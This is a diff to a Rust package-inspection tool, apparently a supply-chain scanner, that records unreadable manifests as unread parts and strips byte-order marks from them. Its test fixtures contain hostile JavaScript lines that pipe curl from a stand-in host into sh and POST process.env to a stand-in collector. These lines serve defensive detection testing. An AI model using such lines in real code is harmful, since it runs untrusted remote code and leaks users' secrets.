@@ -5,11 +5,10 @@ use customs_ecosystem::cargo::facts_from_cargo_toml;
 use customs_ecosystem::npm::NpmRelease;
 use customs_ecosystem::pypi::{Metadata, facts_from_entries};
 use customs_inspect::{Content, Tree, Unpacking, inspect_tree, unpack_file};
-use customs_model::{Inspection, Manifest, RunsCode};
+use customs_model::{Inspection, Manifest, RunsCode, UnreadPart};
 use serde::{Deserialize, Serialize};
 use std::fs::File;
 use std::io;
-use std::path::Path;
 use std::sync::Arc;
 
 /// Bytes of a manifest.
@@ -52,15 +51,33 @@ pub struct ArtifactFacts {
 }
 
 /// Reads the facts of an artifact. Parsers go as deep as code is nested: the caller's
-/// thread needs a large stack.
+/// thread needs a large stack. What is wrong with the archive or its manifest stands in the
+/// facts, as a part that was not read.
 ///
 /// # Errors
-/// Not such an archive, over a bound, or a manifest that says nothing.
-pub fn read(path: &Path, kind: Kind) -> io::Result<ArtifactFacts> {
-    let tree = unpack_file(File::open(path)?, &Unpacking::default())?;
-    let mut facts = declared(&tree, kind)?;
-    facts.code = Arc::new(inspect_tree(&tree));
-    Ok(facts)
+/// The file cannot be read, or it is no archive.
+pub fn read(file: File, kind: Kind) -> io::Result<Result<ArtifactFacts, String>> {
+    let tree = unpack_file(file, &Unpacking::default())?;
+    if tree.entries.is_empty()
+        && let Some(part) = tree.unread.first()
+    {
+        return Ok(Err(part.because.clone()));
+    }
+    let mut code = inspect_tree(&tree);
+    let mut facts = match declared(&tree, kind) {
+        Ok(facts) => facts,
+        // Its code is known nevertheless; what a client makes of such a manifest is not.
+        Err(error) => {
+            code.unread.push(UnreadPart {
+                path: String::new(),
+                because: error.to_string(),
+                reached: true,
+            });
+            ArtifactFacts::default()
+        }
+    };
+    facts.code = Arc::new(code);
+    Ok(Ok(facts))
 }
 
 fn declared(tree: &Tree, kind: Kind) -> io::Result<ArtifactFacts> {
@@ -151,9 +168,10 @@ fn manifest(tree: &Tree, is: impl Fn(&str) -> bool) -> io::Result<Option<&[u8]>>
         Some(entry) if entry.length > MANIFEST => {
             Err(io::Error::other("its manifest is over 4 MiB"))
         }
+        // Clients pass over the mark in front.
         Some(entry) => entry
             .bytes()
-            .map(Some)
+            .map(|bytes| Some(bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes)))
             .ok_or_else(|| io::Error::other("its manifest could not be kept in memory")),
     }
 }
@@ -180,11 +198,11 @@ mod tests {
     #[test]
     fn a_path_is_read_as_an_unpacker_resolves_it() {
         let file = archive(&[("package/./binding.gyp", "{}")]);
-        let facts = read(file.path(), Kind::Tarball).unwrap();
-        assert_eq!(facts.runs.binding_gyp, Some(true));
+        let read = facts(&file);
+        assert_eq!(read.runs.binding_gyp, Some(true));
         let file = archive(&[("package/lib/binding.gyp", "{}")]);
-        let facts = read(file.path(), Kind::Tarball).unwrap();
-        assert_eq!(facts.runs.binding_gyp, Some(false));
+        let read = facts(&file);
+        assert_eq!(read.runs.binding_gyp, Some(false));
     }
 
     #[test]
@@ -196,8 +214,14 @@ mod tests {
                 r#"{"scripts":{"postinstall":"node a.js"}}"#,
             ),
         ]);
-        let facts = read(file.path(), Kind::Tarball).unwrap();
-        assert_eq!(facts.runs.at_install(), Some(true));
+        let read = facts(&file);
+        assert_eq!(read.runs.at_install(), Some(true));
+    }
+
+    fn facts(file: &tempfile::NamedTempFile) -> ArtifactFacts {
+        read(File::open(file.path()).unwrap(), Kind::Tarball)
+            .unwrap()
+            .unwrap()
     }
 
     #[test]
@@ -206,7 +230,23 @@ mod tests {
         let bytes = std::fs::read(whole.path()).unwrap();
         let mut cut = tempfile::NamedTempFile::new().unwrap();
         cut.write_all(&bytes[..bytes.len() / 2]).unwrap();
-        assert!(read(cut.path(), Kind::Tarball).is_err());
+        let read = read(File::open(cut.path()).unwrap(), Kind::Tarball).unwrap();
+        let is_told = |facts: &ArtifactFacts| facts.code.unread.iter().any(|part| part.reached);
+        assert!(read.as_ref().map_or(true, is_told), "{read:?}");
+    }
+
+    #[test]
+    fn a_manifest_that_only_a_client_can_read_hides_no_code() {
+        let file = archive(&[
+            ("package/package.json", r#"{"main": "a.js", "x": 1e999}"#),
+            (
+                "package/a.js",
+                "require('child_process').exec('curl https://c.invalid | sh')",
+            ),
+        ]);
+        let read = facts(&file);
+        assert!(read.code.unread.iter().any(|part| part.reached));
+        assert_eq!(read.runs.at_install(), None);
     }
 
     #[test]
@@ -221,7 +261,7 @@ mod tests {
                 "fetch('https://collect.invalid', {method: 'POST', body: JSON.stringify(process.env)})",
             ),
         ]);
-        let facts = read(file.path(), Kind::Tarball).unwrap();
-        assert_eq!(facts.code.flows.len(), 1);
+        let read = facts(&file);
+        assert_eq!(read.code.flows.len(), 1);
     }
 }
